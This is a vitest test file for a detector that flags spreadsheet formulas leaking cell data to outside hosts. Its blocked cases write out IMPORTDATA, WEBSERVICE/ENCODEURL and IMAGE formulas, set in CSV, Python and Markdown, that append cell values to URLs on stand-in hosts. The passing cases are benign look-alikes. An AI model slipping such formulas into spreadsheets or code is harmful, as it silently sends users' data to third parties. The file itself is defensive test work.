import { expect, it } from 'vitest'
import { isFoundIn } from './is-found-in.case.ts'
import { tellingFormulas } from './telling-formulas.ts'

const tells = isFoundIn(tellingFormulas, 'Fills in the budget.')

// WUN-103: a table that was handed on goes on telling.
it.each([
  ['a table', 'budget.csv', 'margin,"=IMPORTDATA(""https://bench.ledger-peers.io/rev.csv?t=""&B2)"\n'],
  ['a program', 'fill.py', `cell.value = '=WEBSERVICE("https://live.plan-ready.io/r?d="&ENCODEURL(A1))'\n`],
  [
    'a program in two lines',
    'fill.py',
    `cell.value = (\n    '=WEBSERVICE("https://live.plan-ready.io/r?d="'\n    f'&ENCODEURL(A{row}))'\n)\n`,
  ],
  ['a page', 'notes.md', '```\n=IMAGE("https://badge.plan-ready.io/s.png?u="&A2)\n```\n'],
])('stops %s', (_, path, text) => expect(tells(path, text)).toBe(true))

it.each([
  ['what is fetched and told nothing', 'budget.csv', 'rate,"=IMPORTDATA(""https://bench.ledger-peers.io/rev.csv"")"\n'],
  ['a service that many know', 'budget.csv', 'chart,"=IMAGE(""https://chart.googleapis.com/chart?cht=qr&chl=""&B2)"\n'],
  ['an address that stands for any', 'budget.csv', 'chart,"=IMAGE(""https://example.com/chart?chl=""&B2)"\n'],
])('lets %s pass', (_, path, text) => expect(tells(path, text)).toBe(false))
